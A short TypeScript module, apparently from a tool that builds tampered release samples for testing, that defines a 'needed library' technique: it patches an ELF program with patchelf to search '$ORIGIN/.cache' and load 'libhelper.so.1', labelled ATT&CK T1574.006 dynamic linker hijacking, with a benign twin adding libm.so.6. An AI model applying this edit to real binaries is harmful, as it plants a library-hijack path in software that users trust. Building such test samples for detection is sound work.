import { patchelf, relinked } from "../edit/elf.ts";
import { editFile, fileBytes, mainFile } from "../release.ts";
import type { Technique } from "../technique.ts";

export const neededLibrary: Technique = {
  id: "needed-library",
  title: "Needed library with a search path beside the program",
  shape: "ATT&CK T1574.006, Dynamic Linker Hijacking",
  kind: "linux",
  least: "high",
  async attack({ after }) {
    const path = mainFile(after, "elf");
    // One after the other: both at once give the library's name as the search path.
    const looking = await patchelf(relinked(fileBytes(after, path)), ["--set-rpath", "$ORIGIN/.cache"]);
    const edited = await patchelf(looking, ["--add-needed", "libhelper.so.1"]);
    return editFile(after, path, () => edited);
  },
  twinTitle: "a needed library of the system",
  async twin({ after }) {
    const path = mainFile(after, "elf");
    const edited = await patchelf(relinked(fileBytes(after, path)), ["--add-needed", "libm.so.6"]);
    return editFile(after, path, () => edited);
  },
};
